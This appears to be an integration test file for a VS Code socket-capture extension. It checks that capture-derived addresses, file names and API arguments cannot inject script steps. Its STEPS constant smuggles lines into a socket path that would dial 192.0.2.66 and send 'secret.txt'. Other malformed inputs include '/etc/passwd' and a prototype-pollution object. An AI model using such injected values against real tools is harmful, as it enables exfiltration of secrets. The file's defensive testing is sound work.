import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as vscode from 'vscode';

import type { SocketAddress } from '../../../src/engine/address/socketAddress';
import { allProblems, checkScript } from '../../../src/wire/check/checker';
import { eventually } from '../../support/eventually';
import { hostileCapture } from '../../support/hostileCapture';
import { assertRejects, cleanUp, run, waitForSocket } from '../support/commands';
import { ask, makeWireFolder, type WireFolder } from '../support/wireFiles';

const STEPS = '\nevil = dial tcp://192.0.2.66:80\nevil > file("secret.txt")\n# ';

describe('what others made', () => {
  let folder: WireFolder;
  beforeEach(async () => {
    folder = await makeWireFolder();
  });
  afterEach(async () => {
    await cleanUp();
    await folder.remove();
  });

  /** The text of *Edit and Send* for a capture whose connection went there. */
  async function editAndSend(name: string, remote: SocketAddress): Promise<string> {
    const path = join(folder.path, name);
    await writeFile(path, hostileCapture(remote, 'hi'));
    await ask('vscode.openWith', vscode.Uri.file(path), 'sockscope.inspector');
    await eventually(() => run('goTo', '#1'));
    const { document } = await run('editAndSend', {});
    // Opened here, it would outlive its tab, and the next one of its name would have its text.
    const found = vscode.workspace.textDocuments.find(({ uri }) => uri.toString() === document);
    assert.ok(found, document);
    const text = found.getText();
    await ask('workbench.action.revertAndCloseActiveEditor');
    await ask('workbench.action.closeAllEditors');
    await eventually(() => assertRejects(run('goTo', '#1'), 'NO_INSPECTOR'));
    return text;
  }

  it('is no step of a wire file: a path with lines is told, and not dialled', async () => {
    const text = await editAndSend(`in#ject {{x}}.pcapng`, { family: 'unix', path: `/tmp/x.sock${STEPS}` });
    const { sections } = checkScript(text).script;
    assert.deepEqual(
      sections.flatMap(({ steps }) => steps.map((step) => text.slice(step.start, step.end))),
      ['con = dial tcp://127.0.0.1:9000', 'con > "hi"'],
    );
    assert.match(text, /^# From the capture in#ject \{\{x\}\}\.pcapng: sent 0x0–0x1$/m);
    assert.match(text, /^# The capture names “unix:\/tmp\/x\.sock␊evil = .*”, which is not dialled here\. /m);
  });

  it('is dialled where it is an address, however that is spelled', async () => {
    const text = await editAndSend('blank.pcapng', { family: 'unix', path: '/tmp/a {{b}} "c"' });
    assert.deepEqual(allProblems(checkScript(text)), []);
    assert.ok(text.includes('con = dial "unix:/tmp/a \\{\\{b}} \\"c\\""\n'), text);
    const ip = await editAndSend('ip.pcapng', { family: 'ip', address: '192.0.2.7', port: 80 });
    assert.ok(ip.includes('con = dial tcp://192.0.2.7:80\n'), ip);
  });

  it('has a text of its own, whatever was closed without being saved a moment ago', async () => {
    for (const port of [81, 82, 83, 84]) {
      const text = await editAndSend(`${port}.pcapng`, { family: 'ip', address: '192.0.2.7', port });
      assert.ok(text.includes(`con = dial tcp://192.0.2.7:${port}\n`), text);
    }
  });

  it('is no syntax where files are completed', async () => {
    await writeFile(join(folder.path, 'a" file("b.bin'), 'x');
    await writeFile(join(folder.path, '{{x}}\n.bin'), 'x');
    const document = await folder.open('a.wire', 'con > file("');
    const end = document.lineAt(0).range.end;
    const { items } = await ask<vscode.CompletionList>('vscode.executeCompletionItemProvider', document.uri, end);
    const inserted = items.map(({ insertText, label }) => insertText ?? label);
    assert.ok(inserted.includes('a\\" file(\\"b.bin'), JSON.stringify(inserted));
    assert.ok(inserted.includes('\\{\\{x}}\\u{a}.bin'), JSON.stringify(inserted));
  });

  it('stays as it is in a sentence: arguments are no placeholders', async () => {
    assert.equal(vscode.l10n.t('{0} {1}', '{1}', '{0}'), '{1} {0}');
    await assertRejects(run('dialEndpoint', { address: 'tcp://{0}{1}:9' }), 'BAD_ENDPOINT', /"\{0\}\{1\}"/);
  });
});

/** A notification that nobody closes: whoever waits for that waits for ever. */
describe('a call of the API', () => {
  let folder: WireFolder;
  beforeEach(async () => {
    folder = await makeWireFolder();
  });
  afterEach(async () => {
    await cleanUp();
    await folder.remove();
  });

  const call = (id: string, argument: unknown): Promise<unknown> => ask(`sockscope.${id}`, argument);

  const PLACES = ['runSection', 'runSectionAndKeepOpen', 'runInTerminal', 'stopSection', 'closeSectionSockets'];
  const LINES = ['sendStep', 'inspectReceived'];
  const MALFORMED: readonly unknown[] = [
    'text',
    7,
    true,
    [],
    {},
    { __proto__: { file: '/x', section: 'x', line: 1 } },
    { file: 7, section: [], line: '1' },
    { file: 'relative.wire', section: 'x', line: 1 },
    { file: 'x'.repeat(1_000_000), section: 'x', line: 1 },
    { file: 'bad scheme://x', section: 'x', line: 1 },
    { webview: 'sockscope.other' },
  ];

  for (const id of [...PLACES, ...LINES]) {
    it(`${id} rejects arguments that are none`, async () => {
      for (const argument of MALFORMED) await assertRejects(call(id, argument), 'BAD_ARGUMENT');
    });
  }

  for (const line of [0, -1, 1.5, NaN, Infinity]) {
    it(`has no line ${line}`, async () => {
      const { uri } = await folder.open('a.wire', 'wait 1ms\n');
      for (const id of LINES) await assertRejects(call(id, { file: uri.fsPath, line }), 'BAD_ARGUMENT');
    });
  }

  for (const id of [
    'renameCapture',
    'saveCaptureAs',
    'exportConversation',
    'openCapture',
    'sendFile',
    'sendSelection',
    'copyAddress',
    'copyAsCommand',
    'resumeRecording',
  ]) {
    it(`of ${id}, which only asks, is refused`, async () => {
      for (const argument of [{}, 'x', { entry: { path: '/etc/passwd' } }])
        await assertRejects(call(id, argument), 'BAD_ARGUMENT', /takes no argument/);
    });
  }

  it('of what needs no argument may have an empty one', async () => {
    await run('startListener', { address: '0' });
    await call('closeAllSockets', {});
    await call('clearClosed', {});
    assert.deepEqual(await run('listSockets'), []);
    await assertRejects(call('closeAllSockets', 'now'), 'BAD_ARGUMENT');
  });

  it('runs sections, or rejects with what keeps it from that', async () => {
    const { uri } = await folder.open(
      'a.wire',
      '### One\nsrv = listen tcp://127.0.0.1:0\ncon = dial {{srv}}\ncon > "hi"\n',
    );
    const file = uri.fsPath;
    await assertRejects(call('runSection', { file, section: 'Two' }), 'NO_SECTION', /“Two”/);
    await assertRejects(call('sendStep', { file, line: 1 }), 'NO_STEP');
    await assertRejects(call('sendStep', { file, line: 4 }), 'NO_SOCKET', /“con”/);
    await assertRejects(call('sendStep', { file, line: 4, socket: 'nobody' }), 'UNKNOWN_SOCKET');
    await assertRejects(call('inspectReceived', { file, line: 4 }), 'NOTHING_RECEIVED');
    await assertRejects(call('runSection', { file: join(folder.path, 'none.wire'), section: 'One' }), 'FileNotFound');
    await call('runSectionAndKeepOpen', { file, section: 'One' });
    assert.deepEqual(await call('sendStep', { file, line: 4 }), { bytes: 2 });
    await call('closeSectionSockets', { file, section: 'One' });
    const listener = await run('startListener', { address: '0', service: 'discard' });
    const { id } = await run('dialEndpoint', { address: listener.local });
    assert.deepEqual(await call('sendStep', { file, line: 4, socket: id }), { bytes: 2 });
    await waitForSocket(id, 'what was sent', ({ bytesSent }) => bytesSent === 2);
  });

  it('does not wait for a problem to be read that a click or a key has shown', async () => {
    const { uri } = await folder.open('a.wire', '### One\nwait 1ms\n');
    const argument = { file: uri.toString(), line: 1 };
    assert.equal(await ask('sockscope.sendStep', argument, 'clicked'), undefined);
    assert.equal(await ask('sockscope.goTo'), undefined);
    await ask('notifications.clearAll');
  });
});
